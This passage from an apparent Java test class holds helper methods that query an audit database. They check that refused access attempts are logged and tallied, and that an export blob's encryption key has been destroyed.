        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /**
     * The refusal is in the trail as a tallied ACCESS_REFUSED of the caller (its first entry, without
     * ids or member data) and counted for the current window.
     */
    private static boolean refusalsRecorded(String actor, String reason) {
        return superuser.withHandle(h -> h.createQuery("""
                        SELECT EXISTS (SELECT 1 FROM audit_entries WHERE action = 'ACCESS_REFUSED' AND actor = :actor
                                       AND reasons = :reason AND decision = 'DENIED' AND target LIKE 'window:%')
                           AND EXISTS (SELECT 1 FROM audit_tallies WHERE action = 'ACCESS_REFUSED' AND subject = :actor
                                       AND reason = :reason AND window_end > now())""")
                .bind("actor", actor).bind("reason", reason).mapTo(Boolean.class).one());
    }

    private static boolean blobKeyGone(String exportId) {
        return superuser.withHandle(h -> h.createQuery("""
                        SELECT b.data_key IS NULL AND b.destroyed_at IS NOT NULL
                        FROM exports e JOIN export_blobs b ON b.id = e.blob_id WHERE e.id = CAST(:id AS uuid)""")
                .bind("id", exportId).mapTo(Boolean.class).one());
    }
}
